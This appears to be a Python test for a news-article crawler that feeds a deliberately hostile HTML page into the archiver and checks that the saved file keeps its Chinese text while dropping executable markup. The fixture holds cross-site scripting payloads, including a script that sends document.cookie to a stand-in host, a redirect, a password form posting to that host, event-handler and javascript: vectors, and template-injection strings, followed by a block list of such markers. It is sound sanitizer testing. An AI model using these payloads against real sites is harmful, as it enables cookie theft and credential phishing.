"""The nastiest page we can write, crawled end to end: a safe file with the text intact."""

from __future__ import annotations

import html
from pathlib import Path

import lxml.html
import yaml

from tests.crawling import add_page, crawl, mirror_of, roll_page
from tests.documents import split_document

TITLE = 'He said "it\'s": 50% off #1 {{ page.title }} {% raw %} & more\t--- yes'
PARAGRAPHS = [
    "　　第一段：{{ site.data }} 与 {% include evil.html %} 都是正文。",
    "　　第一段之后。",
    "　　第二段 加粗 与\n链接 都在。",  # written with <b> and a javascript: link below
    "　　第三段：price > 5 & < 10, \"quoted\" and 'single'.",
]
URL = "https://finance.sina.com.cn/roll/2024-01-02/doc-ihostile0000001.shtml"
PAGE = f"""<!DOCTYPE html><html><head><meta charset="utf-8">
<title>{html.escape(TITLE)}</title>
<meta property="article:published_time" content="2024-01-02T10:00:00+08:00">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
</head><body onload="alert('body')">
<h1 class="main-title">{html.escape(TITLE)}</h1>
<div class="article" id="artibody">
<p onclick="alert(1)" style="background:u\\72l(https://evil.example/t.png)">{html.escape(PARAGRAPHS[0])}</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">　　第一段之后。</p>
<script>alert("inline")</script><style>p {{ display: none }}</style>
<svg onload="alert(2)"><script>alert(3)</script></svg>
<iframe src="javascript:alert(4)"></iframe>
<p>　　第二段 <b onmouseover="alert(5)">加粗</b> 与
<a href="javascript:alert(6)">链接</a> 都在。</p>
<img src="x" onerror="alert(7)"><img src="data:image/svg+xml;base64,PHN2Zz4=">
<object data="evil.swf"></object><embed src="evil.swf"><form action="https://evil.example/">
<input name="password"></form>
<p style="background:url(javascript:alert(8))">{html.escape(PARAGRAPHS[3])}</p>
<a href="vbscript:msgbox(9)"></a><math><mi xlink:href="javascript:alert(10)">m</mi></math>
<p class="article-editor">责任编辑：某某</p>
</div></body></html>"""
EXECUTABLE = ("<script", "<iframe", "<svg", "<math", "<object", "<embed", "<form", "<meta",
              "javascript:", "vbscript:", "data:", "onload", "onclick", "onerror",
              "onmouseover", "alert(", "evil.example", "position:fixed")  # fmt: skip


def test_the_nastiest_page_becomes_a_safe_file_with_its_text_intact(
    fixtures: Path, tmp_path: Path
) -> None:
    add_page(fixtures, "hostile", URL, PAGE)
    with mirror_of(fixtures, {"1686_1": roll_page(URL)}) as mirror:
        result = crawl(mirror, tmp_path / "archive")
    assert result.process.returncode == 0, result.log
    [written] = result.files()
    text = written.read_text(encoding="utf-8")
    front = yaml.safe_load(text.split("\n---\n", 2)[1])
    assert front["title"] == TITLE.replace("\t", " ")
    body = split_document(text).body
    lowered = body.lower()
    for markup in EXECUTABLE:
        assert markup not in lowered, markup
    assert "{" not in body and "}" not in body  # Hexo's Nunjucks sees no template code
    assert "责任编辑" not in body
    root = lxml.html.fragment_fromstring(body, create_parent="div")
    assert [p.text_content() for p in root.iter("p")] == PARAGRAPHS
    assert [p.get("style") for p in root.iter("p")] == [None] * len(PARAGRAPHS)
